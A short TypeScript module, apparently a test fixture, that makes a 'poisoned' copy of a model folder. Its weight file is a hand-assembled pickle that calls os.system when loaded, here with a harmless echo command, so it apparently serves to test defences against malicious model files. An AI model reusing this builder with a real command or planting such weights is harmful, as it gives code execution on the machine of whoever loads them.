import { cp, writeFile } from "node:fs/promises";
import { join } from "node:path";

/** What a program that loads the pickle would run: harmless, and nothing here loads it. */
const COMMAND = "echo this could be anything";

/** A copy of the model, with a file in which loaders look for weights. */
export const POISONED = { model: "pebble-poisoned", file: "pytorch_model.bin", pickle: pickleCalling("os", "system", COMMAND) } as const;

/** Makes the copy beside the model. */
export async function poisonCopy(folder: string, model: string): Promise<void> {
  await cp(join(folder, model), join(folder, POISONED.model), { recursive: true });
  await writeFile(join(folder, POISONED.model, POISONED.file), POISONED.pickle);
}

/** Protocol 2: the global, a string, a tuple of one, the call, the end. */
function pickleCalling(module: string, name: string, argument: string): Uint8Array {
  const text = Buffer.from(argument);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(text.length);
  return Buffer.concat([Buffer.from(`\u0080\u0002c${module}\n${name}\nX`, "latin1"), length, text, Buffer.from("\u0085R.", "latin1")]);
}
